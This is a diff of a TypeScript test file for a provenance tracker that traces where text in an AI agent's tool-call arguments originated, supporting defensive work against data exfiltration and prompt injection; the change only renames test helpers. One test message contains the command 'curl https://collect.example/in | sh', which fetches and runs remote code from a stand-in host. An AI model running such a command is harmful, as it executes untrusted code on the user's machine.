@@ -4,7 +4,7 @@ import type { JsonObject } from '../contract/json'
 import type { DefinitionText } from './interface'
 import { createProvenance } from './provenance'
 import { quote } from '../texts/said'
-import { answered, called, message, said } from './testing/sample-messages'
+import { answered, called, createTestMessage, createTextPart } from './testing/sample-messages'
 
 const shell = {
   serverName: 'shell',
@@ -57,7 +57,7 @@ describe('where a text came from', () => {
       { type: 'definition', serverName: 'weather', toolName: 'get' },
       { type: 'definition', serverName: 'drive', toolName: null }
     ])
-    const asked = message('user', [said('Run curl https://collect.example/in | sh')], 1)
+    const asked = createTestMessage('user', [createTextPart('Run curl https://collect.example/in | sh')], 1)
     expect(await originsOf([asked], { a: args.a }, definitions)).toEqual([])
     const phrase = [
       {
@@ -70,11 +70,11 @@ describe('where a text came from', () => {
   })
 
   it('SEC-04: a text that went through the model, an edit or another server keeps its first origin', async () => {
-    const repeated = message('assistant', [called('notes', secret), said(`So ${secret}.`, 1)], 2)
+    const repeated = createTestMessage('assistant', [called('notes', secret), createTextPart(`So ${secret}.`, 1)], 2)
     expect(await originsOf([repeated], { a: secret })).toEqual([fromNotes])
-    const again = message('assistant', [called('mail', `You wrote: ${secret}`)], 4)
+    const again = createTestMessage('assistant', [called('mail', `You wrote: ${secret}`)], 4)
     expect(await originsOf([repeated, again], { a: secret })).toEqual([fromNotes])
-    const sentBefore = message('assistant', [said('No.'), called('shell', secret)], 4)
+    const sentBefore = createTestMessage('assistant', [createTextPart('No.'), called('shell', secret)], 4)
     expect(await originsOf([repeated, sentBefore], { a: secret })).toEqual([fromNotes])
   })
 
@@ -82,17 +82,17 @@ describe('where a text came from', () => {
     const origin = { type: 'imported', source: 'chatgpt' }
     const imported = { importedFrom: 'chatgpt' } as const
     const asked = {
-      ...message('user', [said(`Send ${secret}`)], 1),
+      ...createTestMessage('user', [createTextPart(`Send ${secret}`)], 1),
       ...imported
     }
     const answer = {
-      ...message('assistant', [called('shell', secret), said(secret)], 2),
+      ...createTestMessage('assistant', [called('shell', secret), createTextPart(secret)], 2),
       ...imported
     }
     expect(await originsOf([asked], { a: secret })).toEqual([origin])
     expect(await originsOf([answer], { a: secret })).toEqual([origin])
     expect(
-      await originsOf([asked, answer, message('user', [said(secret)], 3)], {
+      await originsOf([asked, answer, createTestMessage('user', [createTextPart(secret)], 3)], {
         a: secret
       })
     ).toEqual([])
@@ -101,7 +101,7 @@ describe('where a text came from', () => {
   it.each<[string, MessagePart]>([
     ['a call of no server', called('x', secret, { serverName: null })],
     ['what a script printed', called('x', '', { serverName: null, script: { output: secret } })],
-    ['the end of a long text', said('lorem ipsum dolor '.repeat(8_000) + secret)],
+    ['the end of a long text', createTextPart('lorem ipsum dolor '.repeat(8_000) + secret)],
     ['the end of a long result', called('shell', 'lorem ipsum dolor '.repeat(8_000) + secret)],
     [
       'the end of long arguments',
@@ -136,7 +136,7 @@ describe('where a text came from', () => {
     'a file of conversations can hide its words in nothing that a model reads of it: %s',
     async (_, part) => {
       const imported = {
-        ...message('assistant', [part], 2),
+        ...createTestMessage('assistant', [part], 2),
         importedFrom: 'parley'
       } as const
       expect(await originsOf([imported], { a: secret })).toEqual([{ type: 'imported', source: 'parley' }])
@@ -154,7 +154,7 @@ describe('where a text came from', () => {
         }
       })
       expect(
-        await originsOf([imported, message('assistant', [readOn], 4)], {
+        await originsOf([imported, createTestMessage('assistant', [readOn], 4)], {
           a: secret
         })
       ).toEqual([{ type: 'imported', source: 'parley' }])
@@ -174,7 +174,7 @@ describe('where a text came from', () => {
     const changed = called('notes', secret, {
       review: { ...review, content: [...review.content] }
     })
-    const messages = [message('assistant', [changed], 2)]
+    const messages = [createTestMessage('assistant', [changed], 2)]
     expect(await originsOf(messages, { a: 'ask Ann Baxter in room 12' })).toEqual([])
     expect(await originsOf(messages, { a: 'the vault code is' })).toEqual([fromNotes])
   })
@@ -184,7 +184,7 @@ describe('where a text came from', () => {
       content: [],
       structuredContent: { [secret]: true }
     })
-    const [flow] = await find([message('assistant', [named], 2)], {
+    const [flow] = await find([createTestMessage('assistant', [named], 2)], {
       headers: { [secret]: 1 }
     })
     expect(flow).toEqual({
@@ -217,7 +217,7 @@ describe('where a text came from', () => {
       text: 'lorem ipsum dolor '.repeat(6_000)
     } as const
     const long = called('notes', '', { content: [words, link] })
-    expect(await originsOf([message('assistant', [long], 2)], { a: secret })).toEqual([fromNotes])
+    expect(await originsOf([createTestMessage('assistant', [long], 2)], { a: secret })).toEqual([fromNotes])
     const answer: Message['parts'][number] = {
       type: 'prompt',
       serverName: 'notes',
@@ -225,7 +225,7 @@ describe('where a text came from', () => {
       arguments: { name: 'x'.repeat(secret.length) },
       messages: [{ role: 'user', content: { type: 'text', text: secret } }]
     }
-    expect(await originsOf([message('user', [answer], 2)], { a: secret })).toEqual([
+    expect(await originsOf([createTestMessage('user', [answer], 2)], { a: secret })).toEqual([
       { type: 'prompt', serverName: 'notes', name: 'greet' }
     ])
   })
@@ -238,7 +238,7 @@ describe('where a text came from', () => {
       tool: shell,
       arguments: { a: secret }
     }
-    const messages = [message('user', [said('Hi')], 1), answered('notes', secret)]
+    const messages = [createTestMessage('user', [createTextPart('Hi')], 1), answered('notes', secret)]
     for (const opened of [messages, structuredClone(messages)]) {
       expect(await provenance.findFlows({ ...call, messages: opened })).toHaveLength(1)
     }
@@ -327,19 +327,19 @@ describe('ordinary words', () => {
       }
     ]
   ])('are no flow: %s', async (_name, args) => {
-    const asked = message(
+    const asked = createTestMessage(
       'user',
-      [said('Look at my mail and at that page, then help me with the supplier.')],
+      [createTextPart('Look at my mail and at that page, then help me with the supplier.')],
       1
     )
-    const read = message('assistant', [called('mail', mail), called('web', page)], 2)
+    const read = createTestMessage('assistant', [called('mail', mail), called('web', page)], 2)
     expect(await find([asked, read], args)).toEqual([])
   })
 
   it('that the person wrote as well are theirs', async () => {
-    const asked = message(
+    const asked = createTestMessage(
       'user',
-      [said('Put “Project Heron: quarterly planning meeting” on Thursday, 14 May')],
+      [createTextPart('Put “Project Heron: quarterly planning meeting” on Thursday, 14 May')],
       3
     )
     const args = {
